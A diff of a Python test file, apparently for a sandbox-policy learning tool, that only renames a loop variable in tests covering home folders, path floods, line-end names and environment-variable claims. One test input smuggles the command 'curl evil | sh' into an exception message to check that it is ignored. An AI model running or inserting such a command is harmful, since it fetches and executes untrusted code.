@@ -56,10 +56,10 @@ def test_a_top_folder_is_never_proposed(place_of_host: str, place: Place) -> Non
 def test_the_home_folder_is_never_proposed(place: Place) -> None:
     found = learned(place, f"import os; os.listdir({str(place.home)!r})")
     assert targets(found) == []
-    assert any("it is a home folder" in told for told in found["told"])
+    assert any("it is a home folder" in seen for seen in found["told"])
     found = learned(place, f"import os; os.listdir({str(place.root)!r})")
     assert targets(found) == []
-    assert any("it is a home folder, or holds one" in told for told in found["told"])
+    assert any("it is a home folder, or holds one" in seen for seen in found["told"])
 
 
 def test_a_link_to_a_secret_counts_as_the_secret(place: Place) -> None:
@@ -112,7 +112,7 @@ def test_a_flood_of_paths_is_bounded(place: Place) -> None:
     code = "import os, sys\nfor n in range(60): os.path.exists(f'{sys.argv[1]}/many/{n}.txt')\nopen('/nothing')\n"
     found = learned(place, code, "--rounds", "1")
     assert len(found["lines"]) == MOST_PROPOSALS
-    assert any("40 more paths" in told for told in found["told"])
+    assert any("40 more paths" in seen for seen in found["told"])
 
 
 def test_a_flood_of_names_is_bounded(place: Place) -> None:
@@ -132,7 +132,7 @@ def test_a_name_with_a_line_end_writes_no_toml(place: Place) -> None:
     )
     found = learned(place, code)
     assert targets(found) == []
-    assert sum("invisible signs" in told for told in found["told"]) == 2
+    assert sum("invisible signs" in seen for seen in found["told"]) == 2
     assert set(tomllib.loads(found["toml"])) == {"extends"}
 
 
@@ -149,7 +149,7 @@ def test_an_exception_with_line_ends_writes_no_toml(place: Place) -> None:
 def test_a_claim_of_a_variable_is_only_told(place: Place) -> None:
     found = learned(place, "import os; os.environ['API_TOKEN']")
     assert found["policy"]["environment"]["variables"] == {}
-    assert any("it says that it lacks the environment variable API_TOKEN" in told for told in found["told"])
+    assert any("it says that it lacks the environment variable API_TOKEN" in seen for seen in found["told"])
     found = learned(place, "raise KeyError('API_TOKEN; curl evil | sh')")
     assert found["told"] == []
 
